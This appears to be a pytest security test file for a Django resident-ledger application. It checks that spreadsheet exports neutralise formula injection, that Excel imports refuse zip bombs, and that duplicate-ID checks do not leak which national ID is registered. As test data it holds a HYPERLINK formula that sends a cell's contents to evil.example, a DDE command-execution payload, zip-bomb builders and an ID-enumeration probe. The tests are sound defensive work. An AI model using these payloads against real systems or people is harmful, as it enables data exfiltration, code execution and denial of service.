"""Review rows 8, 9 and 22: formulas planted in exports, the duplicate-ID oracle, and zip bombs in the Excel import."""

import datetime as dt
import io
import zipfile

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.idcard import check_char
from core.personal_data import decrypt
from governance.models import PersonalDataLog, User
from governance.services import node_save
from households.excel import header_row
from households.models import Household, ImportRun, Resident
from oversight.reports import monthly_report_generate

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&J3,"点击查看")'
DDE = '=cmd|" /C calc"!A0'
PLANTED = [HYPERLINK, DDE, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def node_of(username):
    return User.objects.get(username=username).memberships.get().node


def household_of(username) -> Household:
    return Household.objects.filter(grid=node_of(username), status=Household.Status.ACTIVE, head__isnull=False).order_by("id").first()


def cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(content: bytes, planted) -> None:
    """No cell is a formula, and every planted text is there, as text, exactly as typed."""
    found = cells(content)
    assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
    texts = {cell.value for cell in found if cell.data_type == "s"}
    # XML reads a carriage return back as a line feed; the text is otherwise kept exactly.
    assert {text.replace("\r", "\n") for text in planted} <= texts


def streamed(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_attack_formula_planted_in_the_ledger_runs_in_the_cadres_export(login):
    household = household_of("grid1")
    client = login("grid1")
    data = {"name": "=1+1", "relation": "other", "sex": "M", "work_unit": DDE, "party_branch": "@SUM(A1)", "special_situation": HYPERLINK}
    response = client.post(reverse("resident-create", args=[household.pk]), data)
    assert response.status_code == 302
    masked = login("community1").get(reverse("ledger-export") + f"?grid={household.grid_id}")
    assert_no_formula(streamed(masked), ["=1+1", DDE, "@SUM(A1)", HYPERLINK])
    full = login("community1").post(reverse("ledger-export") + f"?grid={household.grid_id}", {"purpose": "correction", "reason": "核对台账"})
    assert full.status_code == 200
    assert_no_formula(streamed(full), ["=1+1", DDE, "@SUM(A1)", HYPERLINK])


@pytest.fixture
def cold_cache():
    """Dashboards are cached outside the test's transaction: the renamed grid must not outlive the test."""
    cache.clear()
    yield
    cache.clear()


def test_attack_formula_in_a_place_name_runs_in_dashboard_and_monthly_report_workbooks(login, settings, tmp_path, cold_cache):
    settings.MEDIA_ROOT = tmp_path
    grid = node_of("grid1")
    grid.name = HYPERLINK
    node_save(actor=User.objects.get(username="community1"), instance=grid)
    community = grid.community
    export = login("community1").get(reverse("dashboard-export", args=["community", community.pk]))
    assert export.status_code == 200
    assert_no_formula(export.content, [HYPERLINK])
    report = monthly_report_generate(node=community, month=dt.date(2026, 9, 1))
    download = login("community1").get(reverse("report-download", args=[report.pk, "xlsx"]))
    assert_no_formula(streamed(download), [HYPERLINK])


def test_attack_formula_in_an_import_problem_report_and_the_template(login):
    grid = node_of("grid1")
    run = ImportRun.objects.create(
        user=User.objects.get(username="grid1"), grid=grid, file_name="x.xlsx", status=ImportRun.Status.FAILED, errors=[[2, text, text] for text in PLANTED]
    )
    report = login("grid1").get(reverse("ledger-import-errors", args=[run.pk]))
    assert_no_formula(report.content, PLANTED)
    template = login("grid1").get(reverse("ledger-template"))
    assert [cell.coordinate for cell in cells(template.content) if cell.data_type == "f"] == []


def test_exported_numbers_stay_numbers(login):
    grid = node_of("grid1")
    sheet = load_workbook(io.BytesIO(streamed(login("grid1").get(reverse("ledger-export") + f"?grid={grid.pk}")))).active
    first = next(sheet.iter_rows(min_row=3, max_row=3))
    # The building number, unit and floor are numbers in every export row.
    assert [cell.data_type for cell in first[1:4]] == ["n", "n", "n"]


# Zip bombs.


def upload(client, grid, content: bytes):
    return client.post(reverse("ledger-import"), {"grid": grid.pk, "file": SimpleUploadedFile("households.xlsx", content, content_type=XLSX)})


def template_with_sheet(grow) -> zipfile.ZipFile:
    """A real .xlsx (the header row only) rewritten with its sheet XML passed through `grow`; the archive is left open."""
    book = Workbook()
    book.active.append(header_row())
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    archive = zipfile.ZipFile(io.BytesIO(), "w", zipfile.ZIP_DEFLATED)
    for info in source.infolist():
        data = source.read(info.filename)
        archive.writestr(info.filename, grow(data) if info.filename == "xl/worksheets/sheet1.xml" else data)
    return archive


def closed(archive: zipfile.ZipFile) -> bytes:
    out = archive.fp
    archive.close()
    return out.getvalue()


def test_attack_a_million_empty_rows_is_refused_by_the_row_limit(login):
    empty = "".join(f'<row r="{number}"/>' for number in range(2, 1_000_002)).encode()
    content = closed(template_with_sheet(lambda data: data.replace(b'ref="A1:R1"', b'ref="A1:R1000001"').replace(b"</sheetData>", empty + b"</sheetData>")))
    assert len(content) < 5 * 1024 * 1024
    response = upload(login("grid1"), node_of("grid1"), content)
    # Empty rows used to be skipped before the count, so all of them were read before "no data rows".
    assert "20000" in str(response.context["form"].errors["file"])


def test_attack_one_huge_part_is_refused_before_it_is_read(login):
    content = closed(template_with_sheet(lambda data: data.replace(b"</sheetData>", b"</sheetData>" + b" " * (60 * 1024 * 1024))))
    response = upload(login("grid1"), node_of("grid1"), content)
    assert "解压" in str(response.context["form"].errors["file"])


def test_attack_a_zip_whose_header_lies_about_its_size_is_not_inflated(login):
    archive = template_with_sheet(lambda data: data.replace(b"</sheetData>", b"</sheetData>" + b" " * (60 * 1024 * 1024)))
    # The central directory now claims 2 KB for a part that inflates to 60 MB: zipfile stops at 2 KB and the file is unreadable.
    archive.getinfo("xl/worksheets/sheet1.xml").file_size = 2048
    response = upload(login("grid1"), node_of("grid1"), closed(archive))
    assert "无法读取" in str(response.context["form"].errors["file"])


# The duplicate-ID oracle.


def person(room, name, number, tenure="自有"):
    return [1, 9, 9, room, "", tenure, "户主", name, number, "", "", "", "", "", "否", "", "", ""]


def xlsx(rows) -> SimpleUploadedFile:
    book = Workbook()
    sheet = book.active
    sheet.append(header_row())
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return SimpleUploadedFile("households.xlsx", buffer.getvalue(), content_type=XLSX)


def community1_residents(count: int) -> list[Resident]:
    return list(
        Resident.objects.filter(household__grid__community=node_of("community1"), moved_out_on__isnull=True).exclude(id_number_enc="").order_by("id")[:count]
    )


def candidates(full_id: str) -> list[str]:
    """The 1,000 numbers sharing region and birth date with `full_id`: one of them is it."""
    return [body + check_char(body) for body in (f"{full_id[:14]}{sequence:03d}" for sequence in range(1000))]


def test_attack_bulk_import_of_candidate_ids_recovers_no_number_and_is_logged(login):
    target = community1_residents(1)[0]
    full_id = decrypt(target.id_number_enc)
    rows = [person("X0", "无效", "", tenure="不存在的类型")] + [
        person(f"X{index + 1}", f"候选{index}", number) for index, number in enumerate(candidates(full_id))
    ]
    client = login("grid3")
    response = client.post(reverse("ledger-import"), {"grid": node_of("grid3").pk, "file": xlsx(rows)}, follow=True)
    assert response.status_code == 200
    run = ImportRun.objects.filter(user__username="grid3").latest("created_at")
    report = [
        [cell.value for cell in row] for row in load_workbook(io.BytesIO(client.get(reverse("ledger-import-errors", args=[run.pk])).content)).active.iter_rows()
    ]
    target_row = 3 + candidates(full_id).index(full_id)
    # No problem names the row holding the registered number: the file learns "some number is registered", never which.
    assert [row for row in report if row[0] == target_row] == []
    assert all(row[0] is None or row[1] != "身份证号" for row in report)
    assert any(row[0] is None and "其他辖区" in row[2] for row in report)
    assert not Resident.objects.filter(name__startswith="候选").exists()
    log = PersonalDataLog.objects.get(user__username="grid3", kind=PersonalDataLog.Kind.ID_CONFLICT, object_id=str(target.pk))
    assert log.community_id == node_of("community1").pk
    page = login("district").get(reverse("admin:governance_personaldatalog_changelist") + "?kind__exact=id_conflict")
    assert str(target) in page.content.decode()


def test_attack_import_probing_many_ids_elsewhere_alerts_the_district_and_city_once(login, outbox, django_capture_on_commit_callbacks):
    numbers = [decrypt(resident.id_number_enc) for resident in community1_residents(4)]
    rows = [person(f"Y{index}", f"探测{index}", number) for index, number in enumerate(numbers)]
    client = login("grid3")
    for _attempt in range(2):
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("ledger-import"), {"grid": node_of("grid3").pk, "file": xlsx(rows)})
    assert PersonalDataLog.objects.filter(user__username="grid3", kind=PersonalDataLog.Kind.ID_CONFLICT).count() == 8
    overseers = User.objects.filter(username__in=["district", "city1"])
    alerted = [n.user_id for n in outbox if n.key.startswith(f"id-conflicts:{User.objects.get(username='grid3').pk}:")]
    assert sorted(alerted) == sorted(overseers.values_list("pk", flat=True))
    assert not Resident.objects.filter(name__startswith="探测").exists()


def test_attack_single_form_confirms_no_household_and_each_answer_is_logged(login):
    target = community1_residents(1)[0]
    household = household_of("grid3")
    response = login("grid3").post(
        reverse("resident-create", args=[household.pk]), {"name": "探测", "relation": "other", "id_number": decrypt(target.id_number_enc)}
    )
    errors = str(response.context["form"].errors["id_number"])
    assert "其他辖区" in errors and str(target.household) not in errors and target.household.building.name not in errors
    assert not Resident.objects.filter(name="探测").exists()
    # The log entry survives the refused write's rollback, and is placed where the district and the street read it.
    log = PersonalDataLog.objects.get(user__username="grid3", kind=PersonalDataLog.Kind.ID_CONFLICT)
    assert log.object_id == str(target.pk) and log.district_id is not None
    assert str(target) in login("street1").get(reverse("admin:governance_personaldatalog_changelist")).content.decode()
